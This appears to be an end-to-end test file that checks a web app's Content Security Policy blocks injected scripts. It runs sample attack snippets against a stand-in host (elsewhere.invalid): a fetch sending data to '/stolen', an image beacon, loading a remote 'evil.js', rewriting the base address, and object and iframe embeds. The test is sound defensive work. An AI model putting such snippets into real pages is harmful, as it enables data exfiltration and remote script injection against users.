"""The desk works under its own policy of content, and the browser keeps to it.

Every end-to-end test fails on a console's error, and a browser tells each thing that a policy
stopped there: what the desk needs is let through by the policy in all of them.
"""

from tests.e2e.people import People

TRY = """
    (attempt) => new Promise((resolve) => {
        document.addEventListener(
            "securitypolicyviolation",
            (event) => resolve(event.effectiveDirective),
            { once: true }
        );
        setTimeout(() => resolve("let through"), 5000);
        new Function(attempt)();
    })
"""
ELSEWHERE = "https://elsewhere.invalid"
ATTEMPTS = {
    f"fetch('{ELSEWHERE}/stolen').catch(() => null)": "connect-src",
    f"new Image().src = '{ELSEWHERE}/stolen.png'": "img-src",
    f"document.head.append(Object.assign(document.createElement('script'),"
    f" {{ src: '{ELSEWHERE}/evil.js' }}))": "script-src-elem",
    f"document.head.append(Object.assign(document.createElement('base'),"
    f" {{ href: '{ELSEWHERE}/' }}))": "base-uri",
    f"document.body.append(Object.assign(document.createElement('object'),"
    f" {{ data: '{ELSEWHERE}/evil.swf' }}))": "object-src",
    f"document.body.append(Object.assign(document.createElement('iframe'),"
    f" {{ src: '{ELSEWHERE}/' }}))": "frame-src",
}


def test_the_desk_lets_nothing_in_from_elsewhere(people: People) -> None:
    """First actions of a smuggled script are stopped: load more, send home, bend addresses."""
    page = people.agent("joana")
    assert people.complaints == [], "the desk itself asks for nothing that its policy stops"
    for attempt, directive in ATTEMPTS.items():
        assert page.evaluate(TRY, attempt) == directive, attempt
    assert people.complaints, "the browser told what it stopped"
    people.complaints[:] = [text for text in people.complaints if "elsewhere.invalid" not in text]
